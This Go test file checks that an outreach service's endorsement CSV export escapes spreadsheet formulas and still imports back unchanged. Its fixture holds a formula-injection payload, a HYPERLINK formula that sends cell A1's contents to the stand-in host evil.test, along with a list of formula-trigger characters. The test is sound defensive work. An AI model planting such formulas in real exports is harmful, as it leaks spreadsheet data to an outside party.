package service

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/outreach-coalition/outreach/internal/outreach"
	"github.com/outreach-coalition/outreach/internal/store"
)

// An endorsement's print name and evidence come from outside: exported,
// they must not be spreadsheet formulas, and the export still imports as
// it is.
func TestEndorsementExportHasNoFormulas(t *testing.T) {
	ctx := context.Background()
	s, _ := replyFixture(t)
	const evidence = `=HYPERLINK("http://evil.test/?"&A1,"we endorse")`
	e, err := s.Store.RecordReply(ctx, &store.Incoming{Key: "k1", Reply: outreach.Reply{MessageID: "@evil", From: "my@org.test",
		ContactID: replyContactID(t, s, "my@org.test"), CampaignID: 1, Class: outreach.ClassEndorse, Reason: "endorse"},
		Endorse: &outreach.Endorsement{CampaignID: 1, ContactID: replyContactID(t, s, "my@org.test"), Email: "my@org.test",
			Organization: "MY Org", PrintName: "+MY Org", Country: "MY", State: outreach.EndorsementConfirmed, Evidence: evidence, Source: "reply"}})
	if err != nil || e.Endorsement == nil {
		t.Fatalf("RecordReply = %+v, %v", e, err)
	}
	var out bytes.Buffer
	if err := s.ExportEndorsements(ctx, replyAdmin, EndorsementQuery{}, &out); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %d rows, %v\n%s", len(rows), err, out.String())
	}
	for i, cell := range rows[1] {
		if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
			t.Errorf("column %s = %q: a spreadsheet reads it as a formula", rows[0][i], cell)
		}
	}
	t2, _ := replyFixture(t)
	if _, err := t2.ImportEndorsements(ctx, replyAdmin, bytes.NewReader(out.Bytes()), false); err != nil {
		t.Fatal(err)
	}
	list, err := t2.Endorsements(ctx, replyAdmin, EndorsementQuery{})
	if err != nil || len(list) != 1 {
		t.Fatalf("imported %d endorsements, %v", len(list), err)
	}
	if got := list[0]; got.Evidence != evidence || got.PrintName != "+MY Org" {
		t.Errorf("imported back: print name %q, evidence %q; want them as exported from", got.PrintName, got.Evidence)
	}
}
